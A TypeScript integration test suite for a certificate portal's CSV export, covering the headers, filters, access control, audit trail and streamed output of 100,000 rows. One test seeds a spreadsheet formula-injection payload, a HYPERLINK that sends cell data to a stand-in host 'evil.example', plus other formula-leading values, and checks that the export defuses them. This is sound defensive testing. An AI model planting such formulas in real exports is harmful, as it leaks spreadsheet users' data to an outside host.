import { setTimeout as sleep } from 'node:timers/promises';
import { toCertificateRow } from '../../src/modules/certificates/certificate.mapper.js';
import { aCertificate } from '../factories/certificate.factory.js';
import { registerStudent } from '../support/applicant.js';
import { PortalClient, signIn } from '../support/portal.js';
import { memoryOf } from '../support/processes.js';
import { record, staffWith } from '../support/records.js';
import { ADMIN, type RunningServer, startServer, waitFor } from '../support/server.js';
import { onEachServerEngine } from '../support/server-engines.js';
import { rowsOf } from '../support/tables.js';

const ROWS = 100_000;
/** What a whole table of so many rows would need is several times as much. */
const GROWTH_MB = 90;
/** Reading all rows at once would keep everyone waiting for longer. */
const LONGEST_WAIT_MS = 1000;

/** The cells of a table as RFC 4180 has it. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}

onEachServerEngine('an export', (databaseSettings) => {
  let server: RunningServer;
  let reader: PortalClient;
  let student: PortalClient & { email: string };

  beforeAll(async () => {
    server = await startServer({ env: await databaseSettings() });
    reader = await staffWith(server, ['certificates.read']);
    student = await registerStudent(server);
  });

  afterAll(() => server.dispose());

  const exported = (client: PortalClient, filter: object = {}) =>
    client.raw(`/api/v1/certificates/export.csv?filter=${encodeURIComponent(JSON.stringify(filter))}`);

  async function table(filter: object = {}): Promise<Record<string, string>[]> {
    const text = await (await exported(reader, filter)).text();
    const [titles = [], ...rows] = parse(text);
    return rows.map((row) => {
      expect(row).toHaveLength(titles.length);
      return Object.fromEntries(titles.map((title, place) => [title, row[place] ?? '']));
    });
  }

  const trail = async () =>
    (
      await rowsOf<{ action: string; after_values: string }>(
        server.database,
        "SELECT action, after_values FROM audit_events WHERE action LIKE 'certificates.export%' ORDER BY id",
      )
    ).map(({ action, after_values }) => ({ action, ...JSON.parse(after_values) }));

  it('is a table for spreadsheets, newest first, with every formula defused', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    await record(student, 'add', {
      name: '王小明, "Xiaoming"',
      major: formula,
      note: 'two\nlines',
      birth: '2001-04-30',
      passport: 'E 77',
      cert_no: 'UM/1',
    });
    await record(student, 'add', { name: '@cmd', major: '+60', note: '-2+3', university: '\t=1' });
    const answer = await exported(reader);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="certificates.csv"');
    expect(answer.headers.get('cache-control')).toContain('no-store');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    const bytes = Buffer.from(await answer.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString().slice(1).split('\r\n')[0]).toBe(
      'id,status,ownerId,type,name,gender,email,birth,nationality,passport,university,major,forms,level,academyStatus,barcode,certNo,principalName,note,startTime,endTime,ministryStampingTime,awardingTime,reportNumber,rejectReason,appliedAt,decidedAt,decidedBy,createdAt,updatedAt',
    );
    expect(await table()).toEqual([
      expect.objectContaining({ name: "'@cmd", major: "'+60", note: "'-2+3", university: "'=1", birth: '' }),
      expect.objectContaining({
        name: '王小明, "Xiaoming"',
        major: `'${formula}`,
        note: 'two\nlines',
        birth: '2001-04-30',
        status: 'Unverified',
        email: student.email,
        updatedAt: expect.stringMatching(/^\d{4}-.*Z$/),
      }),
    ]);
  });

  it('takes the filters of the list, and refuses what is none', async () => {
    const names = async (filter: object) => (await table(filter)).map(({ name }) => name);
    expect(await names({ name: '小明' })).toEqual(['王小明, "Xiaoming"']);
    expect(await names({ status: 'Verified' })).toEqual([]);
    expect(await names({ university: '=' })).toEqual(["'@cmd"]);
    expect(await names({ passport: 'e77' })).toEqual(['王小明, "Xiaoming"']);
    expect(await names({ certNo: 'um1', email: student.email })).toEqual(['王小明, "Xiaoming"']);
    expect(await names({ id: [] })).toEqual([]);
    for (const filter of [{ major: 'x' }, { status: 'x' }, []]) {
      const answer = await exported(reader, filter);
      expect([filter, answer.status]).toEqual([filter, 400]);
    }
  });

  it('is for staff who may read certificates alone', async () => {
    expect((await exported(new PortalClient(server.url))).status).toBe(401);
    expect((await exported(await staffWith(server, ['certificates.review']))).status).toBe(200);
    expect((await exported(student)).status).toBe(403);
    expect((await exported(await staffWith(server, ['news.manage']))).status).toBe(403);
    expect((await exported(await signIn(server.url, ADMIN))).status).toBe(200);
  });

  it('is written down, without whom and what was searched for', async () => {
    // The end is noted after the last byte has gone out.
    const settled = async () => {
      const entries = await trail();
      return (
        2 * entries.filter(({ action }) => action === 'certificates.export-begun').length === entries.length && entries
      );
    };
    const before = (await waitFor('the exports before', settled)).length;
    const asked = { name: '小明', status: 'Unverified', passport: 'E 77', certNo: 'UM/1', email: student.email };
    await table(asked);
    const entries = (await waitFor('the end of the export', settled)).slice(before);
    expect(entries).toEqual([
      {
        action: 'certificates.export-begun',
        filter: { byName: true, status: 'Unverified', byPassport: true, byCertNo: true, byEmail: true },
      },
      { action: 'certificates.export-ended', rows: 1, complete: true },
    ]);
  });

  describe(`of ${ROWS} records`, () => {
    beforeAll(async () => {
      const columns = Object.keys(toCertificateRow(aCertificate())).join(', ');
      for (let rows = 2; rows < ROWS; rows *= 2) {
        const more = Math.min(rows, ROWS - rows);
        await rowsOf(
          server.database,
          `INSERT INTO certificates (${columns}) SELECT ${columns} FROM certificates ORDER BY id LIMIT ${more}`,
        );
      }
    });

    it('streams: little memory, and everyone else is answered meanwhile', async () => {
      await table({ id: [1] });
      const idle = await memoryOf(server.pid, 'VmRSS');
      const waits: number[] = [];
      let done = false;
      const asking = (async () => {
        while (!done) {
          const asked = performance.now();
          await fetch(`${server.url}/health/ready`);
          waits.push(performance.now() - asked);
          await sleep(20);
        }
      })();
      const answer = await exported(reader);
      let lines = 0;
      let peak = 0;
      for await (const chunk of answer.body ?? []) {
        lines += Buffer.from(chunk).filter((byte) => byte === 0x0d).length;
        peak = Math.max(peak, await memoryOf(server.pid, 'VmRSS'));
      }
      done = true;
      await asking;
      process.stdout.write(
        `memory of the API: ${Math.round(idle)} MB before an export, ${Math.round(peak)} MB during it\n`,
      );
      expect(lines).toBe(ROWS + 1);
      expect(peak - idle).toBeLessThan(GROWTH_MB);
      expect(waits.length).toBeGreaterThan(5);
      expect(Math.max(...waits)).toBeLessThan(LONGEST_WAIT_MS);
    });

    it('waits for whoever reads slowly, and ends with whoever hangs up', async () => {
      // Half of the rows are more than what lies between two programs: Linux takes up to 38 MB that nobody has read.
      await rowsOf(server.database, 'UPDATE certificates SET reject_reason = ?', ['x'.repeat(1000)]);
      const before = (await trail()).length;
      const control = new AbortController();
      const answer = await reader.raw('/api/v1/certificates/export.csv', { signal: control.signal });
      const body = answer.body?.getReader();
      expect((await body?.read())?.value?.length).toBeGreaterThan(0);
      const idle = await memoryOf(server.pid, 'VmRSS');
      await sleep(1500);
      expect((await memoryOf(server.pid, 'VmRSS')) - idle).toBeLessThan(GROWTH_MB);
      expect((await trail()).slice(before)).toHaveLength(1);
      control.abort();
      const ended = await waitFor('the end of the export', async () => (await trail())[before + 1]);
      expect(ended).toMatchObject({ action: 'certificates.export-ended', complete: false });
      expect(ended.rows).toBeLessThan(ROWS / 2);
      expect((await fetch(`${server.url}/health/ready`)).status).toBe(200);
    });
  });
});
